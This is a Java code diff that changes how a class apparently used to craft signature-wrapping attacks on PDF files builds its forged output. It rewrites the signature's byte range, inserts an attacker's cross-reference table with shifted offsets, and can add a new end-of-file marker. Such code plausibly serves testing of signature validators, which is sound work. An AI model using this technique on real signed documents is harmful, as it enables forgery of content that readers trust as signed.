@@ -67,8 +67,9 @@ final class Wrapping {
   }
 
   /**
-   * The second range goes to the end; where its table of objects stood, another one stands. The
-   * signature's own byte range is written a second time, behind the contents.
+   * The second range goes to the end, and what the attacker wants stands in the room that the
+   * signature left. The byte range is written a second time, behind the contents. With padding, the
+   * attacker's table stands just where the last line says; without, another last line is added.
    */
   private static byte[] moved(byte[] file, boolean padding) {
     return Entry.read(
@@ -81,16 +82,31 @@ final class Wrapping {
           byte[] objects = forged.unclosed();
           ByteArrayOutputStream out = new ByteArrayOutputStream();
           out.write(file, 0, gap.from());
-          String contents = padding ? gap.text() : "<" + gap.digits() + ">";
           int moved = Math.max(table, gap.to()) + objects.length;
-          String range = String.format("/ByteRange [0 %d %d %d]", gap.from(), moved, gap.end() - gap.to());
-          out.writeBytes(CosText.bytes(contents + range + ">>\nendobj\n"));
+          String range =
+              String.format("/ByteRange [0 %d %d %d]", gap.from(), moved, gap.end() - gap.to());
+          out.writeBytes(CosText.bytes("<" + gap.digits() + ">" + range + ">>\nendobj\n"));
           int shift = out.size() - file.length;
           out.write(objects, file.length, objects.length - file.length);
-          pad(out, table);
-          out.writeBytes(CosText.bytes(forged.table(out.size(), shift)));
+          if (padding) {
+            pad(out, table);
+          }
+          int there = out.size();
+          forged.shift(shift).trailer("Prev", Long.toString(victim.previous()));
+          victim
+              .offsets()
+              .forEach(
+                  (number, offset) -> {
+                    if (offset > victim.previous() && !forged.names(number)) {
+                      forged.entry(number, offset < gap.to() ? offset : offset + moved - gap.to());
+                    }
+                  });
+          out.writeBytes(CosText.bytes(forged.table(there)));
           pad(out, moved);
           out.write(file, gap.to(), gap.end() - gap.to());
+          if (!padding) {
+            out.writeBytes(CosText.bytes("startxref\n" + there + "\n%%EOF\n"));
+          }
           return out.toByteArray();
         });
   }
